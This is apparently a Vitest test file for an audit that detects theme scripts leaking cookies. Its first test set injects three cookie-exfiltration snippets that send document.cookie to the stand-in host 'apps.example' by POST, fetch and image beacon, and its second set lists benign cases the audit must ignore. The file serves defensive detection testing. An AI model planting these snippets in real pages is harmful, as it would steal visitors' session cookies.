import { expect, test } from 'vitest'
import { leakedCookies } from '../../../engine/audits/leaked-cookies.ts'
import { find, LAYOUT, places } from './find.ts'

const page = (script: string) => ({ 'layout/theme.liquid': LAYOUT.replace('</body>', `<script>${script}</script></body>`) })

test.each([
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a script of a page.
  'var p = `shop=${shop}&cookies=${document.cookie}`; http.open("POST", "https://apps.example/save.php"); http.send(p)',
  'fetch("https://apps.example/save", { method: "POST", body: JSON.stringify({ cookie: document.cookie }) })',
  'new Image().src = "https://apps.example/p.gif?c=" + encodeURIComponent(document.cookie)',
])('%s sends all cookies away', script => {
  expect(places(find(leakedCookies, page(script)))).toEqual(['layout/theme.liquid:1'])
})

test.each([
  ['a cookie that is written', 'document.cookie = "a=" + b; fetch("https://apps.example/")'],
  ['one cookie that is read', 'var t = "; ".concat(document.cookie).split("; a="); fetch("https://apps.example/?a=" + t[1])'],
  ['a pattern that is looked for', 'var a = ("a=" + document.cookie.match(/b=(.*)/)[1]); fetch("https://apps.example/")'],
  ['a call of the store itself', 'fetch("/cart.js", { body: { cookie: document.cookie } })'],
  ['a comment', '/* fetch("https://apps.example/?c=" + document.cookie) */'],
])('%s sends none', (_, script) => {
  expect(find(leakedCookies, page(script))).toEqual([])
})
